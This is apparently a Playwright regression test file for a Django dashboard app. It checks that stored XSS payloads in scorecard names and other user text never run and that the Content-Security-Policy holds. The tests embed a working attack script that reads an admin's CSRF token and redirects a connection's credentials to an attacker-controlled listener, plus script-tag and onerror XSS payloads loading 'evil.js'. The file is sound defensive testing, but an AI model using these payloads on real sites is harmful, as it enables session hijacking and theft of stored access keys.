"""In Chromium: no user's text runs as script, the Content-Security-Policy holds, nothing is blocked
that the pages need (the `page` fixture fails any test during which Chromium reported a violation).
"""

import pytest
from playwright.sync_api import expect

from conftest import PASSWORD
from connections.models import Connection
from dashboards.models import Scorecard
from sandbox import DEMO_ACCESS_KEY, DEMO_USERNAME
from tests.connections.factories import vtiger_connection
from tests.listener import Listener
from tests.test_xss import ROUTES, _path, world  # noqa: F401 -- `world` is a fixture used below

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

# What the attack of issue 10 ran in an admin's browser: read the CSRF token, post the connection
# edit form with the listener as its instance URL and the access key blank.
ATTACK = """
window.__pwned = true;
fetch("/data-manager/%(uuid)s/edit/").then(function (r) { return r.text(); }).then(function (html) {
  var token = html.match(/name="csrfmiddlewaretoken" value="([^"]+)"/)[1];
  var form = new URLSearchParams({csrfmiddlewaretoken: token, name: "Vtiger", subdomain: "", username: "demo",
    access_key: "", plan: "growth", rate_limit_per_minute: "", instance_url: "%(listener)s"});
  return fetch("/data-manager/%(uuid)s/edit/", {method: "POST", body: form});
});
"""


@pytest.fixture
def dialogs(page):
    """Every alert() a page opened: the payloads call alert(1) if they ever run."""
    opened = []

    def record(dialog):
        opened.append(f"{page.url}: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", record)
    return opened


def test_the_watch_sees_a_blocked_inline_script(page, login, admin_user, csp_violations):
    """The control: the fixture's watch really notices what the policy blocks."""
    login(admin_user)
    response = page.goto("/")
    assert "script-src 'self'" in response.headers["content-security-policy"]
    with page.expect_console_message(lambda message: "Content Security Policy" in message.text):
        page.evaluate(
            "() => { const s = document.createElement('script'); s.textContent = 'window.__ran = 1';"
            " document.body.appendChild(s); }"
        )
    assert page.evaluate("() => window.__ran") is None
    assert csp_violations
    csp_violations.clear()


def test_a_scorecard_named_with_a_script_steals_nothing_from_the_admin(
    page, login, admin_user, analyst_user, sandbox, dialogs
):
    connection = vtiger_connection(sandbox.url, name="Vtiger")
    before = Connection.objects.values().get(pk=connection.pk)
    with Listener() as listener:
        listener.routes["/evil.js"] = ("text/javascript", ATTACK % {"uuid": connection.uuid, "listener": listener.url})
        name = f'<script src="{listener.url}/evil.js"></script>"><img src=x onerror=alert(1)>'
        card = Scorecard.objects.create(name=name, owner=analyst_user)
        card.recipients.add(admin_user)

        login(admin_user)
        page.goto(f"/dashboards/scorecards/{card.uuid}/")
        expect(page.get_by_role("heading", level=1)).to_have_text(name)
        page.get_by_text("Plain-text version").click()
        expect(page.locator("pre.code")).to_contain_text(name)
        # The email's frame loads under its own policy (inline styles, nothing else).
        frame = page.frame_locator("iframe.email-preview")
        expect(frame.locator("body")).to_contain_text("scorecard")
        page.goto("/dashboards/scorecards/")
        expect(page.get_by_role("link", name=name)).to_be_visible()

        assert page.evaluate("() => window.__pwned") is None, "the analyst's script ran in the admin's browser"
        assert dialogs == []
        assert listener.received == [], [r.path for r in listener.received]
        assert not listener.leaked(DEMO_ACCESS_KEY, DEMO_USERNAME)
    assert Connection.objects.values().get(pk=connection.pk) == before


def test_no_payload_runs_on_any_page(page, login, world, dialogs, client):  # noqa: F811 -- the fixture
    """Every page of the URLconf with script payloads in every user text: nothing runs, nothing is blocked."""
    admin = world["admin"]
    client.force_login(admin)
    pages = []
    for text in ROUTES:
        path = _path(text, world, admin)
        response = client.get(path)
        if response.status_code == 200 and "html" in response.get("Content-Type", "") and not response.streaming:
            pages.append(path)
    assert len(pages) >= 25, pages

    login(admin)
    for path in pages:
        response = page.goto(path)
        assert response.status == 200, path
        assert page.evaluate("() => document.querySelector('img[src=x]')") is None, page.url
    assert dialogs == [], "a payload ran (it calls alert)"


def test_the_django_admin_works_under_the_policy(page, admin_user, live_server):
    """Django's own admin site (for unlocking accounts, among others) needs nothing the policy forbids."""
    admin_user.is_staff = admin_user.is_superuser = True
    admin_user.save()
    page.goto("/admin/login/")
    page.get_by_label("Username").fill(admin_user.get_username())
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    expect(page.get_by_role("heading", name="Site administration")).to_be_visible()
    for path in ("/admin/auth/user/", f"/admin/auth/user/{admin_user.pk}/change/", "/admin/auth/user/add/"):
        assert page.goto(path).status == 200, path
        page.wait_for_load_state("load")
